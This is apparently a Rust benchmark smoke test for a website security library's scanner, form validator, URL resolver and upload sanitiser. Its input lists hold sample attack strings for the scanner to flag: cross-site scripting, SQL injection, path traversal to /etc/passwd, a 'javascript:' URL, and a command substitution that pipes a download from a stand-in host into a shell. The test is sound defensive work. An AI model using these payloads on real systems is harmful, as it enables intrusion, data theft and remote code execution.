//! Benchmark smoke test for the request-path validators and tier classifier.

use std::collections::BTreeMap;
use std::time::Instant;

use serde_json::{Value, json};
use site_guard_delivery::{DeviceProfile, EnvironmentSignals, classify};
use site_guard_forms::{FormSchema, validate_form};
use site_guard_media::MediaResolver;
use site_guard_upload::{content_digest, sanitize_filename, scan_signatures};

const INPUTS: &[&str] = &[
    "Hello, I'd like a quote for a two-bedroom flat next Tuesday.",
    "<img src=x onerror=alert(1)>",
    "1' OR '1'='1' --",
    "../../etc/passwd",
    "$(curl evil.test | sh)",
];

const REFERENCES: &[&str] = &[
    "/gallery/1.jpg",
    "http://example.com/2.jpg",
    "https://images.example.org/3.jpg",
    "//res.cloudinary.com/demo/4.jpg",
    "javascript:alert(1)",
];

#[test]
fn benchmark_request_path_smoke_prints_latency() {
    let schema = FormSchema::contact();
    let submission: BTreeMap<String, Value> = [
        ("name", json!("Jo Smith")),
        ("email", json!("JO@Example.com")),
        ("phone", json!("+44 20 7946 0958")),
        ("message", json!(INPUTS[0])),
        ("consent", json!(true)),
    ]
    .into_iter()
    .map(|(key, value)| (key.to_string(), value))
    .collect();
    let resolver = MediaResolver::default();
    let signals = EnvironmentSignals {
        hardware_concurrency: Some(4),
        device_memory_gb: Some(4.0),
        effective_type: Some("3g".to_string()),
        ..EnvironmentSignals::default()
    };
    let payload = vec![0x5a_u8; 64 * 1024];

    let start = Instant::now();
    let mut flagged = 0usize;
    let mut valid_forms = 0usize;
    let mut resolved = 0usize;
    let mut digest_len = 0usize;

    for _ in 0..200 {
        for input in INPUTS {
            if !site_guard_scanner::scan(input).is_safe {
                flagged += 1;
            }
        }
        if validate_form(&schema, &submission).is_valid {
            valid_forms += 1;
        }
        for reference in REFERENCES {
            if resolver.resolve(reference).is_valid {
                resolved += 1;
            }
        }
        let tier = classify(&DeviceProfile::from_signals(&signals));
        digest_len += content_digest(&payload).len()
            + sanitize_filename("Before & After (3).JPG", 100).len()
            + tier.to_u8() as usize;
        assert!(scan_signatures(&payload, 1024).is_none());
    }

    let elapsed_ms = start.elapsed().as_millis();
    println!("benchmark_request_path_elapsed_ms={elapsed_ms}");
    println!("benchmark_flagged_inputs={flagged}");
    println!("benchmark_valid_forms={valid_forms}");
    println!("benchmark_resolved_refs={resolved}");
    println!("benchmark_digest_total_len={digest_len}");

    assert_eq!(flagged, 4 * 200);
    assert_eq!(valid_forms, 200);
    assert_eq!(resolved, 4 * 200);
    // This is a lightweight guardrail; strict NFR checks are environment-specific.
    assert!(
        elapsed_ms < 5_000,
        "request-path smoke benchmark should stay bounded"
    );
}
